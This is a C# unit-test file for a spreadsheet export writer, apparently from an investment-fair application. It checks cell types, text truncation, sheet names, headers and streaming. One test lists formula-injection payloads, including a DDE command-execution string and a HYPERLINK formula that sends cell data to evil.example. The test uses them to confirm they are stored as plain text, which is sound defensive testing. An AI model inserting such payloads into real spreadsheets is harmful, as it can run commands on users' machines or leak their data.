using System.Globalization;
using System.IO.Compression;
using System.Text.RegularExpressions;
using InvestmentFair.Spreadsheets;

namespace InvestmentFair.Tests.Spreadsheets;

/// <summary>Every test of the content runs through both writers: a handful of rows, and one more than is held in memory.</summary>
public sealed class WorkbookWriterTests
{
    private const int Few = 3;
    private const int Many = WorkbookWriter.MostRowsInMemory + 1;

    private static readonly DateTime Noon = new(2026, 11, 23, 2, 30, 0, DateTimeKind.Utc);

    private static Column<int> Column(CellKind kind, Func<int, object?> value, string zh = "列", string en = "Column") => new(zh, zh, en, kind, value);

    private static MemoryStream Write(int rows, string sheetName, params Column<int>[] columns)
    {
        var output = new MemoryStream();
        var written = WorkbookWriter.WriteAsync(output, sheetName, columns, Enumerable.Range(0, rows).ToAsyncEnumerable(), CancellationToken.None).GetAwaiter().GetResult();
        // Without a column there is nothing to write of a row.
        if (columns.Length > 0) Assert.Equal(rows, written);
        return output;
    }

    private static SheetTable Read(Stream workbook)
    {
        var outcome = SheetReader.Read(workbook, "a.xlsx");
        Assert.Null(outcome.Refusal);
        return outcome.Value!;
    }

    private static string Part(MemoryStream workbook, string name)
    {
        using var zip = new ZipArchive(new MemoryStream(workbook.ToArray()));
        using var part = new StreamReader(zip.GetEntry(name)!.Open());
        return part.ReadToEnd();
    }

    private static string SheetXml(MemoryStream workbook) => Part(workbook, "xl/worksheets/sheet1.xml");

    [Theory]
    [InlineData(Few)]
    [InlineData(WorkbookWriter.MostRowsInMemory)]
    [InlineData(Many)]
    public void Every_kind_comes_back_as_it_went(int rows)
    {
        var table = Read(Write(rows, "客商",
            Column(CellKind.Text, i => $"客商{i}", "名称"),
            Column(CellKind.Mobile, _ => "13800000000", "手机"),
            Column(CellKind.Number, i => i + 0.5m, "面积"),
            Column(CellKind.Money, i => 123_456L + i, "总投资（万元）"),
            Column(CellKind.Day, i => new DateOnly(2026, 11, 23).AddDays(i % 100), "日期"),
            Column(CellKind.Instant, _ => Noon, "时间"),
            Column(CellKind.Flag, i => i % 2 == 0, "本届推介")));

        Assert.Equal(["名称", "手机", "面积", "总投资(万元)", "日期", "时间", "本届推介"], table.Headers);
        Assert.Equal(rows, table.Rows.Count);
        Assert.Equal(["客商1", "13800000000", "1.5", "0.123457", "2026-11-24", "2026-11-23 10:30", "否"], table.Rows[1].Cells.Select(c => c.Text));
        Assert.Equal(["客商1", "13800000000", 1.5, 0.123457, new DateTime(2026, 11, 24), new DateTime(2026, 11, 23, 10, 30, 0), "否"], table.Rows[1].Cells.Select(c => c.Raw));
    }

    [Theory]
    [InlineData(Few)]
    [InlineData(Many)]
    public void Nothing_is_an_empty_cell(int rows)
    {
        var kinds = Enum.GetValues<CellKind>();
        var workbook = Write(rows, "空", [Column(CellKind.Text, i => $"{i}", "号"), .. kinds.Select(k => Column(k, _ => null, $"{k}")), Column(CellKind.Text, _ => "", "空")]);

        Assert.All(Read(workbook).Rows[0].Cells.Skip(1), c => Assert.Null(c.Raw));
    }

    [Theory]
    [InlineData(Few)]
    [InlineData(Many)]
    public void What_looks_like_a_formula_stays_text(int rows)
    {
        string[] payloads =
        [
            "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点击\")", "\t=1+1", "\r=1+1", "\n=1+1",
            "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", " =1+1", "\u200B=1+1", "'=1+1", "$=1+1", "{=1+1}", "=", "-5", "+8613800138000", "&=1+1", "</v><f>1+1</f><v>",
        ];

        foreach (var kind in new[] { CellKind.Text, CellKind.Mobile, CellKind.Number, CellKind.Money, CellKind.Day, CellKind.Instant, CellKind.Flag })
        {
            var workbook = Write(rows, "=1+1", Column(CellKind.Number, i => i, "=1+1"), Column(kind, i => payloads[i % payloads.Length], "+1"));

            Assert.DoesNotMatch(new Regex("<([a-z]+:)?f[ />]"), SheetXml(workbook));
            Assert.All(Read(workbook).Rows.Take(payloads.Length).Zip(payloads), pair =>
            {
                Assert.Equal(CellText.Folded(pair.Second), pair.First.Cells[1].Text);
                Assert.IsType<string>(pair.First.Cells[1].Raw);
            });
        }
    }

    [Fact]
    public void What_looks_like_a_formula_stays_text_when_the_cell_is_edited()
    {
        var few = Write(Few, "表", Column(CellKind.Text, _ => "=1+1"));
        var many = Write(Many, "表", Column(CellKind.Text, _ => "=1+1"));

        Assert.Contains("quotePrefix=\"1\"", Part(few, "xl/styles.xml"), StringComparison.Ordinal);
        Assert.All([few, many], w => Assert.Contains("formatCode=\"@\"", Part(w, "xl/styles.xml"), StringComparison.Ordinal));
    }

    [Theory]
    [InlineData(Few)]
    [InlineData(Many)]
    public void Text_that_no_cell_can_hold_is_cut_to_what_it_can(int rows)
    {
        // Not one character repeated, which would read back as a bomb.
        var prose = new string([.. Enumerable.Range(0, 40_000).Select(i => (char)('一' + (i * 7919L * i % 20_000)))]);
        string[] texts = ["张\0三\u001B[31m\uFFFF\uD800", prose, prose[..32_766] + "𠮷𠮷", "𠮷田 _x0041_", "第一行\r\n第二行", " 前后 "];
        var table = Read(Write(Math.Max(rows, texts.Length), "表", Column(CellKind.Text, i => i < texts.Length ? texts[i] : $"{i}")));

        Assert.Equal(
            ["张三[31m", prose[..32_767], prose[..32_766], "𠮷田 _x0041_", "第一行\n第二行", " 前后 "],
            table.Rows.Take(texts.Length).Select(r => r.Cells[0].Raw));
    }

    [Theory]
    [InlineData(Few)]
    [InlineData(Many)]
    public void What_a_number_or_a_date_of_Excel_cannot_be_is_left_out_or_written_as_text(int rows)
    {
        var table = Read(Write(rows, "表",
            Column(CellKind.Text, i => $"{i}", "号"),
            Column(CellKind.Number, _ => double.NaN, "非数"),
            Column(CellKind.Day, _ => new DateOnly(1895, 4, 17), "成立"),
            Column(CellKind.Number, _ => "约 30", "约数")));

        Assert.Equal(["0", "", "1895-04-17", "约 30"], table.Rows[0].Cells.Select(c => c.Text));
    }

    [Theory]
    [InlineData(Few)]
    [InlineData(Many)]
    public void The_header_is_frozen_and_filtered_and_every_column_wide_enough(int rows)
    {
        var workbook = Write(rows, "表",
            Column(CellKind.Text, _ => "x", "名称") with { Width = 30 },
            Column(CellKind.Money, _ => 1L, "拟引资额（万元）") with { Width = 4 },
            Column(CellKind.Day, _ => new DateOnly(2026, 1, 1), "日"),
            Column(CellKind.Instant, _ => Noon, "时"));
        var sheet = SheetXml(workbook);

        Assert.Matches("<x:pane [^>]*ySplit=\"1\"[^>]*state=\"frozen", sheet);
        Assert.Contains($"<x:autoFilter ref=\"A1:D{rows + 1}\"", sheet, StringComparison.Ordinal);
        Assert.Equal([30, 18, 14, 14], Regex.Matches(sheet, "<x:col [^>]*width=\"([0-9.]+)\"").Select(m => (int)double.Parse(m.Groups[1].Value, CultureInfo.InvariantCulture)));
        Assert.All(["#,##0.00####", "yyyy-mm-dd", "yyyy-mm-dd hh:mm"],
            format => Assert.Contains($"formatCode=\"{format}\"", Part(workbook, "xl/styles.xml"), StringComparison.Ordinal));
    }

    [Fact]
    public void The_header_of_a_short_list_is_bold() =>
        Assert.Contains("<x:b />", Part(Write(Few, "表", Column(CellKind.Text, _ => "x")), "xl/styles.xml"), StringComparison.Ordinal);

    [Theory]
    [InlineData("招商项目", "招商项目")]
    [InlineData("a[b]c:d*e?f/g\\h", "abcdefgh")]
    [InlineData("'引号'", "引号")]
    [InlineData("一二三四五六七八九十一二三四五六七八九十一二三四五六七八九十一二", "一二三四五六七八九十一二三四五六七八九十一二三四五六七八九十一")]
    [InlineData("a<b>&\"c\"\u0001", "a<b>&\"c\"")]
    [InlineData("[]:*?/\\", "Sheet1")]
    [InlineData("", "Sheet1")]
    public void A_sheet_has_a_name_that_Excel_takes(string given, string name)
    {
        foreach (var rows in new[] { Few, Many })
        {
            using var reader = ExcelDataReader.ExcelReaderFactory.CreateOpenXmlReader(Write(rows, given, Column(CellKind.Text, _ => "x")));
            Assert.Equal(name, reader.Name);
        }
    }

    [Fact]
    public void A_reader_of_English_gets_English_headers_and_flags()
    {
        var before = CultureInfo.CurrentUICulture;
        try
        {
            CultureInfo.CurrentUICulture = new CultureInfo("en");
            var table = Read(Write(Few, "Projects", Column(CellKind.Flag, i => i == 0, "本届推介", "Listed")));

            Assert.Equal(["Listed"], table.Headers);
            Assert.Equal(["Yes", "No", "No"], table.Rows.Select(r => r.Cells[0].Text));
        }
        finally
        {
            CultureInfo.CurrentUICulture = before;
        }
    }

    [Theory]
    [InlineData(Few)]
    [InlineData(Many)]
    public async Task The_workbook_is_written_to_a_stream_that_only_goes_forward(int rows)
    {
        using var kept = new MemoryStream();
        await using (var forward = new GZipStream(kept, CompressionMode.Compress, leaveOpen: true))
            await WorkbookWriter.WriteAsync(forward, "表", [Column(CellKind.Text, i => $"{i}")], Enumerable.Range(0, rows).ToAsyncEnumerable(), TestContext.Current.CancellationToken);
        kept.Position = 0;
        using var back = new MemoryStream();
        await using (var unzip = new GZipStream(kept, CompressionMode.Decompress)) await unzip.CopyToAsync(back, TestContext.Current.CancellationToken);

        Assert.Equal(rows, Read(back).Rows.Count);
    }

    [Theory]
    [InlineData(0)]
    [InlineData(Many)]
    public void A_list_without_rows_or_columns_is_still_a_workbook(int rows)
    {
        Assert.Null(WorkbookGuard.Check(Write(rows, "表"), "a.xlsx"));
        Assert.Equal(["列"], Read(Write(0, "表", Column(CellKind.Text, _ => "x"))).Headers);
    }
}
